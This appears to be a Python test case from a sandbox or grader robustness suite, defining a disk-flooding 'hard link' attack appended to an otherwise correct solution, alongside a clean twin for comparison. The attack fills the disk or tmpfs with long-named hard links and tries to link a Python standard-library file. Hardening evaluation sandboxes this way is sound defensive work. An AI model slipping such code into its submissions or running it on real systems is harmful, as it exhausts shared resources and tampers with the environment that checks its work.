from ._snippets import FOOTPRINT, SHA, solution_text

ASSIGNMENT = SHA
TAG = "hlink"
ATTACK = ("fills the disk (or tmpfs memory) with hard links to one empty file, each with a 250-byte name (no new "
          "inode: only the folder grows), and links to files of the Python installation")
CODE = solution_text(ASSIGNMENT) + FOOTPRINT + '''
import sys as _sys

try:
    _fp_os.close(_fp_os.open("__MARK__-0", _fp_os.O_CREAT | _fp_os.O_WRONLY, 0o600))
    _made, _why = _flood(lambda i: _fp_os.link("__MARK__-0", f"__MARK__-{i:0>235}"))
except OSError as _exc:
    _made, _why = 0, f"no file to link ({type(_exc).__name__} errno {_exc.errno})"
try:
    _fp_os.link(_fp_os.__file__, "__MARK__-stdlib")
    print("linked a file of the Python installation")
except OSError as _exc:
    print("no link to the Python installation:", type(_exc).__name__)
_report("hard links", _made, _why)
'''
TWIN = solution_text(ASSIGNMENT)
EVIDENCE = "footprint:"
SAME_SCORE = True
